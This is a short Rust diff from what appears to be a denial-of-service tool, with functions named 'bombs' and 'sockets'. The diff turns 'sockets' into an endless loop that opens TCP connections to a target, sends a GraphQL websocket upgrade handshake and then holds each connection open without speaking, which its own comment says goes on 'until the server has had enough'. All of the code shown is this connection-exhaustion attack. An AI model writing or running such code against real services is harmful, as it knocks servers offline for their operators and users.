@@ -58,11 +58,22 @@ pub async fn bombs(target: Target) {
     again(target, &all).await;
 }
 
+/// Opens sockets and says nothing in them, until the server has had enough.
 pub async fn sockets(target: Target) {
-    let handshake = "GET /graphql HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
+    let handshake = "GET /graphql/ws HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
                      sec-websocket-version: 13\r\nsec-websocket-protocol: graphql-transport-ws\r\n\
                      sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
-    again(target, handshake.as_bytes()).await;
+    loop {
+        if let Ok(mut stream) = TcpStream::connect(target.addr).await {
+            target.hit();
+            if stream.write_all(handshake.as_bytes()).await.is_ok() {
+                let mut nowhere = tokio::io::sink();
+                let open = tokio::io::copy(&mut stream, &mut nowhere);
+                let _ = tokio::time::timeout(Duration::from_secs(5), open).await;
+            }
+        }
+        tokio::task::yield_now().await;
+    }
 }
 
 /// Sends one thing, waits for a while whether anything is said, and is back.
